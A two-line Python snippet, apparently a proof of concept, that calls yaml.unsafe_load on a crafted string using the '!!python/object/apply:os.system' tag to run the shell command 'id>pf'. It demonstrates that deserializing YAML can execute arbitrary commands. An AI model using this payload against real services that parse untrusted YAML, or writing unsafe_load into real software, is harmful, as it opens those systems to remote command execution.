import yaml
yaml.unsafe_load("!!python/object/apply:os.system ['id>pf']")
